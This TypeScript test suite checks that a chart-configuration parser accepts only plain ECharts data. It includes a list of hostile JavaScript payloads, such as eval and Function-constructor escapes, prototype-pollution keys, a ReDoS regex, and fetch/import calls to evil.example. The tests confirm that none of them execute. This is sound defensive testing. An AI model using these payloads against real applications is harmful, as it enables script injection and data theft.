import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ECHART_TYPES } from './ai-echart/echart-types.ts';
import { bracketDepth } from './chart-config/bracket-depth.ts';
import { ChartConfigError, parseChartConfig } from './chart-config.ts';
import { echartSamples } from './chart-samples.ts';

function option(text: string): Record<string, unknown> {
  return parseChartConfig(text).option;
}

describe('parseChartConfig', () => {
  it('reads JSON, JavaScript literals and assignments alike', () => {
    const wanted = { series: [{ type: 'bar', data: [1, -2, null] }], darkMode: true };
    expect(option('{"series":[{"type":"bar","data":[1,-2,null]}],"darkMode":true}')).toEqual(wanted);
    expect(option(`{ series: [{ type: 'bar', data: [+1, -2, ,] }], darkMode: !0 }`)).toEqual(wanted);
    expect(option('option = { series: [{ type: `bar`, data: [1, -2, null] }], darkMode: true }; // done')).toEqual(
      wanted,
    );
    expect(option('const option = { series: [{ type: "bar", data: [1, -2, null] }], darkMode: true };')).toEqual(
      wanted,
    );
  });

  it('turns gradients into what they declare', () => {
    const text = `{ color: [new echarts.graphic.LinearGradient(0, 0, 0, 1, [{ offset: 0, color: '#fff' }])] }`;
    expect(option(text).color).toEqual([
      { type: 'linear', x: 0, y: 0, x2: 0, y2: 1, colorStops: [{ offset: 0, color: '#fff' }], global: false },
    ]);
  });

  it.each([
    ["v => v + '%'", '{value}%'],
    ["function (v) { return v + '%'; }", '{value}%'],
    ['(v) => `¥${v}`', '¥{value}'],
    ["p => p.name + ': ' + p.value", '{b}: {c}'],
    ['p => `${p.seriesName}/${p.percent}%`', '{a}/{d}%'],
    ["p => p[0].name + ' ' + p[1].value", '{b0} {c1}'],
    ["v => v / 10000 + '万'", 'wan'],
    ["v => (v * 100).toFixed(1) + '%'", 'percent'],
  ])('keeps the formatter %s as %s', (source, template) => {
    const { option, omitted } = parseChartConfig(`{ yAxis: { axisLabel: { formatter: ${source} } } }`);
    expect(option).toEqual({ yAxis: { axisLabel: { formatter: template } } });
    expect(omitted).toEqual([]);
  });

  it('drops other functions with a warning that names their path', () => {
    const { option, omitted } = parseChartConfig(
      `{ tooltip: { formatter: (p) => fetch('//x') }, series: [{ type: 'bar', symbolSize: (v) => v * 2, data: [1] }] }`,
    );
    expect(option).toEqual({ tooltip: {}, series: [{ type: 'bar', data: [1] }] });
    expect(omitted).toEqual([
      { path: 'tooltip.formatter', why: 'function' },
      { path: 'series.0.symbolSize', why: 'function' },
    ]);
  });

  it('leaves out what would reach outside, and says so', () => {
    const { option, omitted } = parseChartConfig(
      JSON.stringify({
        title: { text: 'A', link: 'javascript:alert(1)', sublink: 'https://example.org/a' },
        toolbox: { feature: { dataView: { show: true }, restore: {} } },
        tooltip: { extraCssText: 'position:fixed', renderMode: 'html', className: 'x' },
        graphic: [{ type: 'image', style: { image: 'https://example.org/x.png' } }],
        series: [{ type: 'scatter', symbol: 'image://https://example.org/x.png', data: [1] }],
        globe: { baseTexture: 'https://example.org/world.jpg', environment: 'https://example.org/sky.hdr' },
        textStyle: { fontFamily: 'x;background:url(//example.org)' },
        somethingElse: 1,
      }),
    );
    expect(option).toEqual({
      title: { text: 'A', sublink: 'https://example.org/a' },
      toolbox: { feature: { restore: {} } },
      tooltip: {},
      graphic: [{ type: 'image', style: {} }],
      series: [{ type: 'scatter', data: [1] }],
      globe: {},
      textStyle: {},
    });
    expect(omitted).toHaveLength(11);
  });

  it('refuses what is too large', () => {
    const points = (count: number): string => JSON.stringify({ series: [{ type: 'bar', data: Array(count).fill(1) }] });
    expect(() => parseChartConfig(points(20_000))).not.toThrow();
    expect(() => parseChartConfig(points(20_001))).toThrow(/data points/);
    expect(() =>
      parseChartConfig(JSON.stringify({ series: Array.from({ length: 101 }, () => ({ type: 'bar' })) })),
    ).toThrow(/series/);
    expect(() => parseChartConfig(`{"title":{"text":"${'x'.repeat(257 * 1024)}"}}`)).toThrow(/KB/);
    expect(() => parseChartConfig(`${'['.repeat(100_000)}`)).toThrow(/deep/);
    expect(() => parseChartConfig(`{ a: ${'-'.repeat(200_000)}1 }`)).toThrow(ChartConfigError);
  });

  it('says where a mistake is', () => {
    expect(() => parseChartConfig('{\n  series: [load()]\n}')).toThrow(/call.*line 2, column 12/);
    expect(() => parseChartConfig('{ series: [ }')).toThrow(/line 1/);
  });

  it('takes every sample as it is', () => {
    for (const type of ECHART_TYPES)
      expect(parseChartConfig(echartSamples.of(type, 'en-US')).omitted, type).toEqual([]);
  });
});

/** Code that must never run, in every place where a value may stand. */
const HOSTILE = [
  'alert(1)',
  'globalThis.ran()',
  'eval("ran()")',
  'Function("ran()")()',
  'new Function("ran()")()',
  '(() => ran())()',
  '(function(){ran()})()',
  'ran``',
  '`${ran()}`',
  'import("//evil.example/x.js")',
  'fetch("//evil.example")',
  'window.location = "//evil.example"',
  'document.cookie',
  'this.constructor.constructor("ran()")()',
  '[].constructor',
  '[]["constructor"]["constructor"]("ran()")()',
  '{ get a() { return ran() } }.a',
  '{ get a() { return ran() } }',
  '{ set a(v) { ran() } }',
  '{ [ran()]: 1 }',
  '{ ...ran() }',
  '[...ran()]',
  '{ __proto__: { ran: 1 } }',
  '{ "__proto__": 1 }',
  '{ constructor: 1 }',
  '{ prototype: 1 }',
  '/x/.exec("x")',
  '/(a+)+$/',
  'new Image("//evil.example")',
  'new Worker("data:,ran()")',
  'new echarts.graphic.LinearGradient(ran())',
  'new echarts.graphic.Other(1)',
  'new (ran())()',
  'class { static x = ran() }',
  'a ? 1 : ran()',
  '1 + ran()',
  '1, ran()',
  'ran',
  'undefined.x',
  '10n',
  'await ran()',
  'yield ran()',
  'x = ran()',
  'x++',
  'delete window.x',
  'typeof ran()',
  'super.x',
  'import.meta',
  'new.target',
  '(1, ran)()',
];
const PLACES = [
  (code: string) => `{ series: ${code} }`,
  (code: string) => `{ series: [{ data: [${code}] }] }`,
  (code: string) => `{ title: { text: ${code} } }`,
  (code: string) => `{ title: {} }; ${code}`,
  (code: string) => `option = { title: {} } , (${code})`,
];

describe('hostile configurations', () => {
  const ran = vi.fn();
  beforeEach(() => {
    vi.stubGlobal('ran', ran);
    vi.stubGlobal('alert', ran);
    vi.stubGlobal('fetch', ran);
  });
  afterEach(() => vi.unstubAllGlobals());

  const payloads = HOSTILE.flatMap((code) => PLACES.map((place) => place(code)));

  it(`there are ${payloads.length} of them`, () => expect(payloads.length).toBeGreaterThanOrEqual(200));

  it.each(payloads)('%s', (payload) => {
    let parsed: unknown;
    try {
      parsed = parseChartConfig(payload).option;
    } catch (error) {
      expect(error).toBeInstanceOf(ChartConfigError);
    }
    expect(ran).not.toHaveBeenCalled();
    // Where one is accepted, nothing but plain data came of it.
    if (parsed !== undefined) expect(JSON.parse(JSON.stringify(parsed))).toEqual(parsed);
  });

  it('prototype keys are refused in JSON too', () => {
    for (const key of ['__proto__', 'constructor', 'prototype']) {
      expect(() => parseChartConfig(`{"title":{"${key}":{"polluted":true}}}`)).toThrow(ChartConfigError);
      expect(() => parseChartConfig(`{"${key}":{"polluted":true}}`)).toThrow(ChartConfigError);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('any text either gives plain data or a ChartConfigError', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => {
        try {
          JSON.stringify(parseChartConfig(text).option);
        } catch (error) {
          expect(error).toBeInstanceOf(ChartConfigError);
        }
      }),
    );
  });

  it('any JSON object comes back without what was left out, and unchanged a second time', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom('title', 'series', 'legend', 'other'), fc.jsonValue()), (value) => {
        const text = JSON.stringify(value);
        let first: unknown;
        try {
          first = parseChartConfig(text).option;
        } catch {
          return;
        }
        expect(parseChartConfig(JSON.stringify(first)).option).toEqual(first);
      }),
    );
  });
});

describe('bracketDepth', () => {
  it('does not count brackets in quotes', () => {
    expect(bracketDepth('{ a: [1, "[[[[", \'{{{\'] }')).toBe(2);
    expect(bracketDepth('"\\"[[["')).toBe(0);
  });
});
